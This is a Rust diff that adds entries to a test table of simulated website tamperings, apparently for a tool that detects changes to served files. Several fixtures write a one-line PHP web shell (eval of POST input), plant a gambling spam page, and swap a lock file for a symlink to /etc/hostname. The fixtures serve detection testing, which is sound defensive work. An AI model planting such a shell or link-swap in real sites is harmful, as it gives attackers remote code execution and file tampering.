@@ -90,12 +90,21 @@ const ON_THE_WEB: [Tampering; 24] = [
 ];
 
 /// What only shows itself where the files can be listed.
-const AT_THE_TARGET: [Tampering; 4] = [
+const AT_THE_TARGET: [Tampering; 7] = [
     ("a page more", "added bet/index.html", |www| write(&www.join("bet/index.html"), "<p>澳门百家乐 在线投注</p>")),
     ("a program", "added upload.php", |www| write(&www.join("upload.php"), "<?php eval($_POST[0]);")),
     ("a hidden folder", "added .cache/x.html", |www| write(&www.join(".cache/x.html"), "<p>x</p>")),
     ("a file among ours that looks like a server's setting", "added news/.htaccess", |www| {
         write(&www.join("news/.htaccess"), "x")
+    }),
+    ("a program where files on their way lie", "added .xinfeng/stage/shell.php", |www| {
+        write(&www.join(".xinfeng/stage/shell.php"), "<?php eval($_POST[0]);");
+    }),
+    ("a lock that never ends", "added .xinfeng/lock", |www| {
+        write(&www.join(".xinfeng/lock"), "xinfeng lock 1\nowner a\nid b\nexpires 2099-01-01T00:00:00Z\n");
+    }),
+    ("a link in place of the lock", "link .xinfeng/lock", |www| {
+        std::os::unix::fs::symlink("/etc/hostname", www.join(".xinfeng/lock")).unwrap();
     }),
 ];
 
